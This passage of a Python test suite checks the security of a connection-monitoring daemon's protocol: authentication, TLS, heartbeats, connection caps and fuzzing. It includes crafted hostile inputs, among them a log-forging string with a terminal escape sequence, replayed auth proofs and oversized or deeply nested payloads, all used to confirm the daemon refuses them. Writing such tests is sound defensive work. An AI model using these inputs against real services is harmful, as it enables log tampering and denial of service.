# Protocol and trust
#
# The wire and its door: the message codec and reply limits, authentication,
# TLS, heartbeats, each role's powers (app, console, peer), caps no client
# can use to blind the consoles, text checked where it enters and escaped
# where it leaves, hostile input fuzzed, and an application no faulty daemon
# can harm.
# ===========================================================================


def test_garbage_is_refused_and_others_carry_on(daemon, apps, tmp_path):
    app = apps(f"sqlite:///{tmp_path}/g.sqlite?plugin=connmon"
               f"&connmon_addr={daemon.address}", "honest.py")
    app("hold 1")
    daemon.wait_row("honest.py", conn=1, ckout=1)
    for garbage in (b"\x00\xffnot json\n", b'{"op":"hello","version":99}\n',
                    b"[1,2]\n", b'{"op": "hello", "role": "app"}\n'):
        with socket.create_connection(("127.0.0.1", daemon.port), 5) as sock:
            sock.settimeout(5)
            rfile = sock.makefile("rb")
            assert connmon.read_message(rfile)["op"] == "welcome"
            sock.sendall(garbage)
            reply = connmon.read_message(rfile)
            assert reply["op"] == "error", reply
            assert rfile.readline() == b""   # and the daemon hung up
    app("hold 1")
    daemon.wait_row("honest.py", conn=2, ckout=2)
    assert "not JSON" in daemon.log.read_text()


def test_refusal_text_cannot_forge_a_log_line(daemon):
    """An error a client sends in place of its hello is logged escaped: it
    can neither start a line of its own nor move the terminal."""
    with socket.create_connection(("127.0.0.1", daemon.port), 5) as sock:
        sock.sendall(connmon.encode({"op": "error", "error": (
            "x\n2099-01-01 connmond INFO admin logged in\x1b[2J")}))
        sock.settimeout(5)
        assert sock.recv(4096)   # the daemon answers and hangs up
    log_text = wait_until(lambda: "admin logged in" in
                          daemon.log.read_text() and daemon.log.read_text(),
                          what="the refusal in the daemon's log")
    assert "\x1b" not in log_text
    (line,) = [line for line in log_text.splitlines()
               if "admin logged in" in line]
    assert "refused: x\\n2099-01-01" in line and "\\x1b[2J" in line


def test_auth_right_secret_works_wrong_or_missing_refused(tmp_path, apps):
    good = secret_file(tmp_path, "good.secret")
    wrong = secret_file(tmp_path, "wrong.secret", "not-the-secret")
    daemon = SecureDaemon(tmp_path, extra_config=f"auth_secret_file: {good}\n")
    relay = Relay(daemon.port)   # to see the refused apps keep trying
    try:
        app = apps(sqlite_app_url(tmp_path, f"connmon_addr={daemon.address}"
                                  f"&connmon_secret_file={good}"), "good.py")
        app("hold 2")
        daemon.wait_row("good.py", conn=2, ckout=2)

        refused = {
            "wrong.py": apps(sqlite_app_url(
                tmp_path, f"connmon_addr=127.0.0.1:{relay.port}"
                f"&connmon_secret_file={wrong}"), "wrong.py"),
            "nosecret.py": apps(sqlite_app_url(
                tmp_path, f"connmon_addr=127.0.0.1:{relay.port}"),
                "nosecret.py"),
        }
        for name, bad in refused.items():
            bad("hold 2")
            bad("query 200")   # the app works as ever
            bad("release 2")
        # Both keep retrying (with backoff) and are refused every time...
        def attempts(name: str) -> int:
            with relay.lock:
                return relay.received.count(f'"progname":"{name}"'.encode())
        wait_until(lambda: all(attempts(name) >= 3 for name in refused),
                   30, "three attempts of each refused app")
        for name, bad in refused.items():
            bad("query 10")
            text = bad.log.read_text()
            # ...but each says so once, clearly, and nothing worse.
            assert text.count("authentication failed (wrong or missing "
                              "secret)") == 1, text
            assert "Traceback" not in text
        assert "app: authentication failed" in daemon.log.read_text()
        rows = {row["progname"] for row in daemon.snapshot()["rows"]}
        assert rows == {"good.py"}
    finally:
        relay.close()
        daemon.stop()


def test_auth_consoles_own_secret_keeps_app_hosts_out(tmp_path, apps):
    """With console_secret_file, a console proves that secret: what an app
    host holds (the config, the apps' secret) gets an app in, but no
    console, which would read the whole picture and clear the maxima."""
    apps_secret = secret_file(tmp_path, "apps.secret")
    consoles_secret = secret_file(tmp_path, "consoles.secret", "consoles")
    daemon = SecureDaemon(tmp_path, extra_config=(
        f"auth_secret_file: {apps_secret}\n"
        f"console_secret_file: {consoles_secret}\n"))
    try:
        app = apps(sqlite_app_url(tmp_path, f"connmon_addr={daemon.address}"
                                  f"&connmon_secret_file={apps_secret}"),
                   "good.py")
        app("hold 1")
        daemon.wait_row("good.py", conn=1, ckout=1)   # (consoles' secret)
        refused = console("-H", daemon.address, "-u", apps_secret)
        assert refused.returncode == 1
        assert "console: authentication failed" in refused.stderr
        for args in (("-H", daemon.address, "-u", consoles_secret),
                     ("-c", str(daemon.config), "-s", "test")):
            ok = console(*args)
            assert ok.returncode == 0, ok.stderr
            assert [row["progname"] for row in json.loads(ok.stdout)[
                "rows"]] == ["good.py"]
    finally:
        daemon.stop()


def test_auth_consoles_and_raw_clients(tmp_path):
    good = secret_file(tmp_path, "good.secret")
    daemon = SecureDaemon(tmp_path, extra_config=f"auth_secret_file: {good}\n")
    try:
        ok = console("-H", daemon.address, "-u", good)
        assert ok.returncode == 0, ok.stderr
        assert json.loads(ok.stdout)["service"] == "test"
        ok = console("-c", str(daemon.config), "-s", "test")   # from config
        assert ok.returncode == 0, ok.stderr
        for args in (["-H", daemon.address],
                     ["-H", daemon.address, "-u",
                      secret_file(tmp_path, "bad.secret", "guess")]):
            refused = console(*args)
            assert refused.returncode == 1
            assert ("refused: console: authentication failed (wrong or "
                    "missing secret)") in refused.stderr
            assert refused.stdout == ""
        # An unauthenticated client learns nothing and changes nothing: no
        # snapshot, no state, whatever it sends after its hello.  A proof
        # made for another connection's nonce (a replay) is no better.
        other = connmon.open_connection(
            [("127.0.0.1", daemon.port)], "console",
            security=connmon.Security(SECRET.encode()))
        stale = connmon.hello_proof(SECRET.encode(),
                                    other.welcome["nonce"], "app")
        other.close()
        for extra in ({}, {"auth": stale}, {"auth": 42}, {"auth": "é"}):
            with socket.create_connection(("127.0.0.1", daemon.port)) as s:
                s.settimeout(10)
                rfile = s.makefile("rb")
                assert connmon.read_message(rfile)["op"] == "welcome"
                s.sendall(connmon.encode(dict(
                    op="hello", version=1, role="app", proc=dict(
                        id="intruder", hostname="h", progname="intruder.py",
                        pid=1), **extra)) + b'{"op":"state","connect":[[1,1'
                    b']],"close":[],"checkout":[],"checkin":[],"checkouts":0'
                    b',"hold":[0,0],"peak":[1,0]}\n{"op":"snapshot"}\n')
                reply = connmon.read_message(rfile)
                assert reply == {"op": "error", "error": "app: "
                                 "authentication failed (wrong or missing "
                                 "secret)"}
                assert rfile.read() == b""
        assert daemon.snapshot()["rows"] == []
        assert SECRET not in daemon.log.read_text()
    finally:
        daemon.stop()
    # The secret may also be written into the config file itself.
    inline = SecureDaemon(tmp_path, extra_config=f"auth_secret: {SECRET}\n")
    try:
        assert console("-H", inline.address, "-u", good).returncode == 0
        assert console("-H", inline.address).returncode == 1
        assert inline.snapshot()["service"] == "test"
    finally:
        inline.stop()


def test_wire_carries_neither_secret_nor_password(tmp_path, apps):
    require_database(POSTGRESQL_URL)
    good = secret_file(tmp_path, "good.secret")
    daemon = SecureDaemon(tmp_path, extra_config=f"auth_secret_file: {good}\n")
    relay = Relay(daemon.port)
    try:
        password = "s3cr3t-Pa55word"   # trust auth: the server ignores it
        url = POSTGRESQL_URL.replace("postgres@", f"postgres:{password}@")
        url = url.replace("postgresql+psycopg2://",
                          "postgresql+psycopg2_connmon://")
        url += (f"?connmon_addr=127.0.0.1:{relay.port}"
                f"&connmon_secret_file={good}")
        app = apps(url, "wire.py")
        app("hold 2")
        daemon.wait_row("wire.py", conn=2, ckout=2)
        with relay.lock:
            wire = bytes(relay.received)
        assert b'"auth":"' in wire and b'"op":"update"' in wire
        for secret in (SECRET.encode(), password.encode(), good.encode()):
            assert secret not in wire
        for log_file in (daemon.log, app.log):
            assert SECRET not in log_file.read_text()
    finally:
        relay.close()
        daemon.stop()


def test_tls_right_ca_works_wrong_ca_refused(tmp_path, apps):
    ca = CertificateAuthority(tmp_path, "ca")
    stranger = CertificateAuthority(tmp_path, "stranger")
    certfile, keyfile = ca.issue("server", "127.0.0.1", "localhost")
    good = secret_file(tmp_path, "good.secret")
    daemon = SecureDaemon(tmp_path, extra_config=(
        f"auth_secret_file: {good}\nssl_certfile: {certfile}\n"
        f"ssl_keyfile: {keyfile}\nssl_cafile: {ca.cafile}\n"))
    relay = Relay(daemon.port)
    try:
        trusting = client_config(tmp_path, daemon, "trusting.cfg", (
            f"auth_secret_file: {good}\nssl_cafile: {ca.cafile}\n"))
        app = apps(sqlite_app_url(tmp_path, f"connmon_config={trusting}"
                                  "&connmon_service=test"), "tls.py")
        app("hold 2")
        daemon.wait_row("tls.py", conn=2, ckout=2)
        ok = console("-c", trusting, "-s", "test")
        assert ok.returncode == 0, ok.stderr
        assert json.loads(ok.stdout)["connections"] == 2

        # Through the relay: encrypted, so not even the JSON shows.
        relayed = tmp_path / "relayed.cfg"
        relayed.write_text((tmp_path / "trusting.cfg").read_text().replace(
            f":{daemon.port}", f":{relay.port}"))
        spied = apps(sqlite_app_url(tmp_path, f"connmon_config={relayed}"
                                    "&connmon_service=test"), "spied.py")
        spied("hold 1")
        daemon.wait_row("spied.py", conn=1, ckout=1)
        with relay.lock:
            wire = bytes(relay.received)
        assert wire and b'"op"' not in wire and SECRET.encode() not in wire

        doubting = client_config(tmp_path, daemon, "doubting.cfg", (
            f"auth_secret_file: {good}\nssl_cafile: {stranger.cafile}\n"))
        refused = apps(sqlite_app_url(tmp_path, f"connmon_config={doubting}"
                                      "&connmon_service=test"), "wrongca.py")
        refused("hold 2")
        refused("query 200")
        wait_until(lambda: "certificate verify failed" in
                   refused.log.read_text(), 15, "the refused app's log line")
        refused("release 2")
        bad = console("-c", doubting, "-s", "test")
        assert bad.returncode == 1 and "certificate verify failed" in (
            bad.stderr)
        plain = console("-H", daemon.address, "-u", good)   # no TLS at all
        assert plain.returncode == 1
        wait_until(lambda: "TLS failed" in daemon.log.read_text(), 15,
                   "the daemon's log line")
        assert "wrongca.py" not in {r["progname"]
                                    for r in daemon.snapshot()["rows"]}
        assert "Traceback" not in refused.log.read_text()
    finally:
        relay.close()
        daemon.stop()


def test_tls_client_certificates(tmp_path, apps):
    ca = CertificateAuthority(tmp_path, "ca")
    certfile, keyfile = ca.issue("server", "127.0.0.1")
    client_cert, client_key = ca.issue("client", "app.example")
    daemon = SecureDaemon(tmp_path, extra_config=(
        f"ssl_certfile: {certfile}\nssl_keyfile: {keyfile}\n"
        f"ssl_cafile: {ca.cafile}\nssl_client_cafile: {ca.cafile}\n"
        f"ssl_client_certfile: {client_cert}\n"
        f"ssl_client_keyfile: {client_key}\n"))
    try:
        with_cert = client_config(tmp_path, daemon, "with.cfg", (
            f"ssl_cafile: {ca.cafile}\nssl_client_certfile: {client_cert}\n"
            f"ssl_client_keyfile: {client_key}\n"))
        without = client_config(tmp_path, daemon, "without.cfg",
                                f"ssl_cafile: {ca.cafile}\n")
        app = apps(sqlite_app_url(tmp_path, f"connmon_config={with_cert}"
                                  "&connmon_service=test"), "cert.py")
        app("hold 1")
        daemon.wait_row("cert.py", conn=1, ckout=1)
        assert console("-c", with_cert, "-s", "test").returncode == 0
        bad = console("-c", without, "-s", "test")
        assert bad.returncode == 1, bad.stdout
        assert "certificate required" in bad.stderr
        wait_until(lambda: "PEER_DID_NOT_RETURN_A_CERTIFICATE" in
                   daemon.log.read_text(), 15, "the daemon's log line")
    finally:
        daemon.stop()


CONSOLE_HOLDER = r'''
import sys, connmon
conn = connmon.open_connection([("127.0.0.1", int(sys.argv[1]))], "console")
print(conn.sock.getsockname()[1], flush=True)
sys.stdin.read()
'''


def test_silent_daemon_app_and_console_are_given_up(tmp_path, apps):
    daemon = Daemon(tmp_path, extra_config="heartbeat_timeout: 2\n")
    holder = None
    try:
        app = apps(sqlite_app_url(tmp_path, f"connmon_addr={daemon.address}"),
                   "stopped.py")
        app("hold 1")
        daemon.wait_row("stopped.py", nproc=1, conn=1)

        # A stopped daemon: the app notices, and works on meanwhile.
        daemon.proc.send_signal(signal.SIGSTOP)
        try:
            app("query 100")
            wait_until(lambda: "no answer for 2 s (heartbeat)" in
                       app.log.read_text(), 20, "the app to give up")
        finally:
            daemon.proc.send_signal(signal.SIGCONT)
        # (the queries opened a second connection, now idle in the pool;
        # the app reconnects, having given the silent connection up)
        wait_until(lambda: "connected (2 connections)" in
                   daemon.log.read_text(), 20, "the app to reconnect")
        daemon.wait_row("stopped.py", nproc=1, conn=2, ckout=1, timeout=20)

        # A stopped app: the daemon drops it; once resumed it comes back.
        os.kill(app.proc.pid, signal.SIGSTOP)
        try:
            daemon.wait_row("stopped.py", nproc=0, conn=0, timeout=20)
        finally:
            os.kill(app.proc.pid, signal.SIGCONT)
        daemon.wait_row("stopped.py", nproc=1, conn=2, ckout=1, timeout=20)
        assert "silent for 2s (heartbeat_timeout)" in daemon.log.read_text()

        # A stopped console.
        holder = subprocess.Popen(
            [sys.executable, "-c", CONSOLE_HOLDER, str(daemon.port)],
            cwd=HERE, env=CHILD_ENV, stdin=subprocess.PIPE,
            stdout=subprocess.PIPE, text=True)
        port = holder.stdout.readline().strip()
        assert port.isdigit()
        os.kill(holder.pid, signal.SIGSTOP)
        wait_until(lambda: f"127.0.0.1:{port}: silent for 2s" in
                   daemon.log.read_text(), 20, "the console to be dropped")
        assert "Traceback" not in app.log.read_text()
    finally:
        if holder is not None:
            holder.kill()
            holder.wait(10)
        daemon.stop()


def test_connection_cap_and_hello_deadline(tmp_path):
    daemon = Daemon(tmp_path, extra_config="max_clients: 3\n"
                    "max_clients_per_address: 3\n")
    thrower = Thrower(daemon.port)
    silent, attached = [], []
    try:
        for _ in range(3):
            sock = socket.create_connection(("127.0.0.1", daemon.port), 5)
            sock.settimeout(5)
            assert connmon.read_message(sock.makefile("rb"))["op"] == (
                "welcome")
            silent.append(sock)
        # Silent connections are not apps: max_clients apps still fit...
        attached = [thrower.hello("app")[0] for _ in range(3)]
        sock, rfile = thrower.connect()
        with sock:   # ...and no more
            sock.sendall(connmon.encode({"op": "hello", "version": 1,
                                         "role": "app", "proc": {
                                             "id": "one-more", "pid": 9,
                                             "hostname": "h", "session": 1,
                                             "progname": "more.py"}}))
            assert connmon.read_message(rfile) == {
                "op": "error", "error": "too many connections (max_clients "
                "is 3)"}
            assert rfile.read() == b""
        assert "too many connections" in daemon.log.read_text()
        # Consoles have room of their own.
        assert console("-H", daemon.address).returncode == 0

        # One of them trickles a byte at a time: the hello deadline is a
        # deadline, not an idle timeout.  All three are hung up on.
        trickler = silent[0]
        trickler.sendall(b"{")

        def all_hung_up() -> bool:
            try:
                trickler.sendall(b" ")
            except OSError:
                pass
            return all(closed(sock) for sock in silent)
        wait_until(all_hung_up, 30, "the hello deadline")
        assert daemon.snapshot()["processes"] == 3
        assert "no hello within 10s" in daemon.log.read_text()
    finally:
        for sock in silent + attached:
            sock.close()
        daemon.stop()


def closed(sock: socket.socket) -> bool:
    """Has the peer hung up?  (Reads and drops what it sent before.)"""
    ready, _, _ = select.select([sock], [], [], 0)
    if not ready:
        return False
    try:
        while sock.recv(65536, socket.MSG_DONTWAIT):
            pass
        return True
    except BlockingIOError:
        return False
    except OSError:
        return True


class FakeDaemon(threading.Thread):
    """A listener that is not a working connmond, in one of these ways:

    - "silent": accepts, says ``greeting`` (or nothing) and holds the
      connection: a stand-in for another kind of server, or a stuck one;
    - "no-accept": never accepts (the kernel completes the TCP handshake;
      nothing is ever read or written);
    - "never-read": says a valid welcome and ready, then never reads nor
      answers a ping (with a tiny receive buffer, so whatever the app sends
      piles up in its send buffer);
    - "garbage": answers every connection with random bytes.

    ``accepted`` counts the connections it accepted.
    """

    def __init__(self, behaviour: str = "silent", greeting: bytes = b""):
        super().__init__(daemon=True)
        self.behaviour = behaviour
        self.greeting = greeting
        self.listener = socket.socket()
        self.listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(16)
        self.port = self.listener.getsockname()[1]
        self.accepted = 0
        self.clients: List[socket.socket] = []
        if behaviour != "no-accept":
            self.start()

    def answer(self) -> bytes:
        """What it says to each connection it accepts."""
        if self.behaviour == "never-read":
            return connmon.encode(
                {"op": "welcome", "version": 1, "service": "x",
                 "node": "fake", "nonce": "00", "heartbeat": 2}
            ) + connmon.encode({"op": "ready"})
        if self.behaviour == "garbage":
            return os.urandom(4096) + b"\n"
        return self.greeting

    def run(self) -> None:
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            self.accepted += 1
            self.clients.append(client)   # kept open, never read
            answer = self.answer()
            if answer:
                try:
                    client.sendall(answer)
                except OSError:
                    pass

    def close(self) -> None:
        self.listener.close()
        for client in self.clients:
            client.close()


def status_kib(pid: int, field: str) -> int:
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    raise AssertionError(f"no {field} for {pid}")


@pytest.mark.parametrize("fault, symptom", [
    ("no-accept", "timed out"),
    ("never-read", "no answer for 2 s (heartbeat)"),
    ("garbage", "not JSON"),
    ("unresolvable", "cannot reach connmond connmon-test.invalid:5800"),
])
def test_app_unharmed_by_a_faulty_daemon(fault, symptom, apps, tmp_path):
    fake = None if fault == "unresolvable" else FakeDaemon(fault)
    address = (f"127.0.0.1:{fake.port}" if fake
               else "connmon-test.invalid:5800")
    try:
        app = apps(sqlite_app_url(tmp_path, f"connmon_addr={address}"),
                   "faulty.py", pool_size=1, max_overflow=-1)
        app("hold 1")
        app("release 1")
        rss_before = status_kib(app.proc.pid, "VmRSS")
        for _ in range(40):   # a stream of updates: connects and closes
            app("hold 30")
            app("release 30")
        app("query 2000")
        wait_until(lambda: symptom in app.log.read_text(), 30,
                   f"the app to log {symptom!r}")
        (before,) = app("ticks")
        time.sleep(3)   # the window the sender's CPU time is measured over
        app("query 100")
        (after,) = app("ticks")
        # A busy-looping sender would burn ~300 ticks in 3 s.
        assert int(after) - int(before) < 30
        assert status_kib(app.proc.pid, "VmRSS") - rss_before < 32 * 1024
        assert "Traceback" not in app.log.read_text()
    finally:
        if fake:
            fake.close()


@pytest.mark.parametrize("query, message", [
    ("connmon_addr=127.0.0.1:1&connmon_secret_file=/nonexistent.secret",
     "cannot read secret file /nonexistent.secret: No such file"),
    ("connmon_addr=127.0.0.1:1&connmon_secret_file={empty}",
     "empty.secret is empty"),
    ("connmon_config={cfg}&connmon_service=badtls",
     "[connmon_service_badtls]: cannot load TLS files"),
    ("connmon_config={cfg}&connmon_service=typo",
     "[connmon_service_typo]: unknown option 'ssl_cert'"),
    ("connmon_config={cfg}&connmon_service=nosecret",
     "[connmon_service_nosecret]: cannot read secret file /nonexistent"),
])
@pytest.mark.parametrize("form", ["sqlite+pysqlite_connmon://", "sqlite://"])
def test_bad_security_settings_fail_at_create_engine(tmp_path, form, query,
                                                     message):
    import sqlalchemy as sa
    empty = tmp_path / "empty.secret"
    empty.write_text("\n")
    cfg = write(tmp_path, """\
        [connmon_service_badtls]
        name: badtls
        nodes:
            n1 hostname=127.0.0.1
        ssl_cafile: /nonexistent-ca.pem
        [connmon_service_typo]
        name: typo
        nodes:
            n1 hostname=127.0.0.1
        ssl_cert: /etc/x.pem
        [connmon_service_nosecret]
        name: nosecret
        nodes:
            n1 hostname=127.0.0.1
        auth_secret_file: /nonexistent
        """)
    url = form + "/?" + query.format(cfg=cfg, empty=empty)
    if form == "sqlite://":
        url += "&plugin=connmon"
    with pytest.raises(connmon.ConfigError) as err:
        sa.create_engine(url)
    assert message in str(err.value)


@pytest.mark.parametrize("options, message", [
    ("heartbeat_timeout: 0.1\n", "heartbeat_timeout: expected a number of "
     "seconds from 1 to 3600, got '0.1'"),
    ("max_clients: many\n", "max_clients: expected a whole number from 1 "
     "to 1048576, got 'many'"),
    ("ssl_cafile: /etc/ssl/certs/ca-certificates.crt\n",
     "TLS needs ssl_certfile (and ssl_keyfile) on the daemon"),
    ("ssl_certfile: /nonexistent.pem\n", "cannot load TLS files"),
])
def test_daemon_refuses_bad_security_settings(tmp_path, options, message):
    path = write(tmp_path, "[connmon_service_a]\nname: a\nnodes:\n"
                 "    n1 hostname=127.0.0.1:1\n" + options)
    result = subprocess.run(
        [sys.executable, "-m", "connmon_server", "-c", path, "-s", "a"],
        cwd=HERE, env=CHILD_ENV, capture_output=True, text=True, timeout=30)
    assert result.returncode == 2
    assert message in result.stderr


def hostile_strategies():
    """Hypothesis strategies for hostile input, built on first use."""
    from hypothesis import strategies as st

    scalars = (st.none() | st.booleans() | st.integers()
               | st.floats(allow_nan=True, allow_infinity=True)
               | st.text(max_size=12))
    json_values = st.recursive(
        scalars, lambda inner: st.lists(inner, max_size=4)
        | st.dictionaries(st.text(max_size=8), inner, max_size=4),
        max_leaves=12)
    absurd = st.sampled_from([-1, 2 ** 62, 2 ** 64, -2 ** 63, 1e308, -0.5,
                              float("nan"), float("inf"), True, "7", None])
    ident = st.integers(0, 40) | absurd
    age = st.floats(0, 100) | absurd
    count = st.integers(0, 1000) | absurd

    def pairs(second):
        return st.lists(st.tuples(ident, second).map(list), max_size=8)

    update = st.fixed_dictionaries({
        "op": st.sampled_from(["update", "update", "update", "state"]),
        "connect": pairs(ident), "close": st.lists(ident, max_size=8),
        "checkout": pairs(age), "checkin": st.lists(ident, max_size=8),
        "checkouts": count, "hold": st.tuples(age, count).map(list),
        "peak": st.tuples(count, count).map(list),
    }, optional={"pools": pairs(st.none() | count)})
    keys = st.sampled_from(["op", "connect", "close", "checkout", "checkin",
                            "checkouts", "hold", "peak", "pools", "proc"])
    mutated = st.builds(lambda base, changes: {**base, **dict(changes)},
                        update, st.lists(st.tuples(keys, json_values),
                                         max_size=2))

    def storm(size: int, base: int, op: str) -> dict:
        """An event storm: many events for connections nobody opened."""
        ids = list(range(base, base + size))
        return {"op": op, "connect": [[i, 1] for i in ids[::2]],
                "close": ids[1::4], "checkout": [[i, 0.1] for i in ids],
                "checkin": ids[::3], "checkouts": size,
                "hold": [0.5, size], "peak": [size, size]}
    storms = st.builds(storm, st.integers(1, 12000), st.integers(-2 ** 40,
                       2 ** 40), st.sampled_from(["update", "state"]))

    def line(message) -> bytes:
        return json.dumps(message).encode() + b"\n"

    app_lines = st.one_of(mutated.map(line), mutated.map(line),
                          storms.map(line), json_values.map(line),
                          st.binary(max_size=60).map(lambda b: b + b"\n"))
    console_lines = st.builds(
        lambda op, procs: line({"op": op, "procs": procs}),
        st.sampled_from(["snapshot", "clear_maxima", "update", "hello"])
        | st.text(max_size=8).filter(lambda op: op != "ping"),
        json_values)
    hello = st.fixed_dictionaries(
        {"op": st.just("hello")},
        optional={"version": st.just(1) | json_values,
                  "role": st.sampled_from(["app", "console", "peer"])
                  | json_values,
                  "proc": st.fixed_dictionaries({}, optional={
                      k: json_values for k in ("id", "hostname",
                                               "progname", "pid")})
                  | json_values,
                  "auth": json_values})
    raw = st.one_of(
        st.binary(max_size=300),
        hello.map(line), hello.map(lambda h: line(h)[:-3]),   # truncated
        json_values.map(line))
    # A peer's messages nest a process and an app's state or update.
    text = st.text(max_size=10) | st.sampled_from(
        ["\x1b[2J", "\ud800", "x" * 300, "ok-name"])
    procs = st.fixed_dictionaries({}, optional={
        "id": text | json_values, "hostname": text, "progname": text,
        "pid": count, "session": count}) | json_values
    states = update.map(lambda u: {**u, "op": "state"}) | mutated
    names = st.lists(text | json_values, min_size=2, max_size=2)
    peer_messages = st.one_of(
        st.builds(lambda p, s: {"op": "attach", "proc": p, "state": s},
                  procs, states | json_values),
        st.builds(lambda i, n, u: {"op": "forward", "id": i, "session": n,
                                   "update": u},
                  text | json_values, count, mutated | json_values),
        st.builds(lambda i, n: {"op": "detach", "id": i, "session": n},
                  text | json_values, count),
        st.builds(lambda rows, totals, clears: {
            "op": "maxima", "rows": rows, "totals": totals,
            "clears": clears},
            st.lists(st.builds(lambda n, c: n + c, names,
                               st.lists(count, max_size=4)), max_size=4)
            | json_values, st.lists(count, max_size=5), count),
        st.builds(lambda c: {"op": "clear_maxima", "clears": c}, count),
        mutated, json_values.map(lambda v: {"op": "attach", "proc": v}))
    peer_lines = st.one_of(peer_messages.map(line), json_values.map(line),
                           st.binary(max_size=60).map(lambda b: b + b"\n"))
    return raw, app_lines, console_lines, peer_lines


FUZZ_EXAMPLES = 110
FUZZ_MINIMUM_INPUTS = 10_000


def test_fuzz_daemon_survives_hostile_input(tmp_path, apps):
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    daemon = Daemon(tmp_path)
    thrower = Thrower(daemon.port)
    try:
        honest = apps(sqlite_app_url(tmp_path,
                                     f"connmon_addr={daemon.address}"),
                      "honest_fuzz.py", pool_size=5)
        honest("hold 3")
        honest("release 1")
        daemon.wait_row("honest_fuzz.py", conn=3, ckout=2)
        rss_start = status_kib(daemon.proc.pid, "VmRSS")

        # A few big ones by hand: over the hello limit, over the message
        # limit, nested past the recursion limit, too many digits.
        thrower.before_hello(b"x" * 20000 + b"\n")
        thrower.after_hello("app", [b"[" * 200000 + b"]" * 200000,
                                    b'{"op":"update","checkouts":'
                                    + b"9" * 5000 + b"}",
                                    b" " * (connmon.MAX_MESSAGE_BYTES + 1)])
        thrower.after_hello("console", [b"{" * 100000])

        raw, app_lines, console_lines, _ = hostile_strategies()

        # Each app line is thrown in three places: after an app's hello,
        # after a console's, and instead of a hello.
        @settings(max_examples=FUZZ_EXAMPLES, deadline=None, database=None,
                  suppress_health_check=list(HealthCheck))
        @given(st.lists(raw, min_size=5, max_size=10),
               st.lists(app_lines, min_size=30, max_size=40),
               st.lists(console_lines, min_size=3, max_size=8))
        def throw(raw_inputs, app_inputs, console_inputs):
            for data in raw_inputs + app_inputs:
                thrower.before_hello(data)
            thrower.after_hello("app", app_inputs)
            thrower.after_hello("console", app_inputs + console_inputs)
            honest("query 5")   # the honest app streams on meanwhile

        throw()
        assert thrower.thrown >= FUZZ_MINIMUM_INPUTS
        assert thrower.refused >= FUZZ_MINIMUM_INPUTS // 10

        # The daemon answers, with the honest app's truth and nobody else's.
        honest("hold 1")
        row = daemon.wait_row("honest_fuzz.py", conn=3, ckout=3, nproc=1)
        snapshot = daemon.snapshot()
        assert (snapshot["processes"], snapshot["connections"],
                snapshot["checkouts"]) == (1, 3, 3), snapshot
        assert row["connected"]
        peak = status_kib(daemon.proc.pid, "VmHWM")
        assert peak - rss_start < 64 * 1024, (rss_start, peak)
        text = daemon.log.read_text()
        assert "Traceback" not in text
        assert "for connections it never announced; ignored" in text
        # One line per kind of problem per interval, not one per input.
        assert text.count("closing the connection") < 100
        print(f"fuzz: {thrower.thrown} inputs, {thrower.refused} refused; "
              f"daemon RSS {rss_start} kB at start, peak {peak} kB")
    finally:
        daemon.stop()


def test_memory_caps_per_process_and_rows(daemon, monkeypatch):
    thrower = Thrower(daemon.port)
    sock, rfile = thrower.hello("app")
    with sock:
        sock.sendall(connmon.encode({
            "op": "update", "connect": [
                [i, 1] for i in range(connmon.MAX_PROCESS_CONNECTIONS + 1)],
            "close": [], "checkout": [], "checkin": [], "checkouts": 0,
            "hold": [0, 0], "peak": [0, 0]}))
        assert connmon.read_message(rfile) == {
            "op": "error",
            "error": "more than 5000 connections in one process"}
    # The rows of programs that are gone make room for new ones.
    monkeypatch.setattr(connmon_server, "MAX_ROWS", 5)
    picture = connmon_server.Picture()
    for n in range(8):
        picture.attach(connmon.ProcessState(f"id{n}", "h", f"p{n}", n + 1,
                                            session=1), "node1")
        if n != 2:
            picture.detach(f"id{n}", 1)
    assert sorted(picture.rows) == [("h", p) for p in
                                    ("p2", "p4", "p5", "p6", "p7")]


def raw_client(port: int, host: str = "127.0.0.1",
               source: Optional[str] = None) -> tuple:
    """A raw protocol client (the attacker's): (socket, reader, welcome)."""
    sock = socket.create_connection(
        (host, port), 10, source_address=(source, 0) if source else None)
    sock.settimeout(10)
    rfile = sock.makefile("rb")
    welcome = connmon.read_message(rfile)
    assert welcome["op"] == "welcome"
    return sock, rfile, welcome


def say_hello(port: int, role: str, host: str = "127.0.0.1",
              source: Optional[str] = None, secret: Optional[str] = None,
              **fields: Any) -> tuple:
    """Say a hello of ``role``; (socket, reader, the daemon's answer)."""
    sock, rfile, welcome = raw_client(port, host, source)
    auth = ({"auth": connmon.hello_proof(secret.encode(), welcome["nonce"],
                                         role)} if secret else {})
    sock.sendall(connmon.encode({"op": "hello", "version": 1, "role": role,
                                 **auth, **fields}))
    return sock, rfile, connmon.read_message(rfile)


def refusal(port: int, role: str, **kwargs: Any) -> str:
    """The error a hello gets (and the daemon hangs up)."""
    sock, rfile, answer = say_hello(port, role, **kwargs)
    with sock:
        assert answer["op"] == "error", answer
        assert rfile.read() == b""
    return answer["error"]


def state_message(conns: int = 0, out: int = 0, **extra: Any) -> dict:
    return {"op": "state", "connect": [[i, 1] for i in range(conns)],
            "close": [], "checkout": [[i, 1.0] for i in range(out)],
            "checkin": [], "checkouts": 0, "hold": [0, 0],
            "peak": [conns, out], "pools": [[1, None]], **extra}


def empty_update(**fields: Any) -> dict:
    return {"op": "update", "connect": [], "close": [], "checkout": [],
            "checkin": [], "checkouts": 0, "hold": [0, 0], "peak": [0, 0],
            **fields}


def proc_fields(ident: str, progname: str, session: int = 1,
                hostname: str = "attacker-host") -> dict:
    return {"proc": {"id": ident, "hostname": hostname,
                     "progname": progname, "pid": 666, "session": session}}


def app_attached(port: int, ident: str, progname: str, conns: int = 0,
                 session: int = 1, hostname: str = "attacker-host",
                 **kwargs: Any) -> tuple:
    """A raw app, attached with ``conns`` connections, all checked out."""
    sock, rfile, answer = say_hello(port, "app", **kwargs, **proc_fields(
        ident, progname, session, hostname))
    assert answer == {"op": "ready"}, answer
    sock.sendall(connmon.encode(state_message(conns, conns)))
    return sock, rfile


def pong_after(sock, rfile, message: Optional[dict] = None) -> dict:
    """Send ``message`` (if any) and a ping: the daemon's next answer
    that is a pong or an error (None when it hung up)."""
    sock.sendall((connmon.encode(message) if message else b"")
                 + connmon.encode({"op": "ping"}))
    while True:
        try:
            reply = connmon.read_message(rfile, 64 << 20)
        except OSError:
            return None
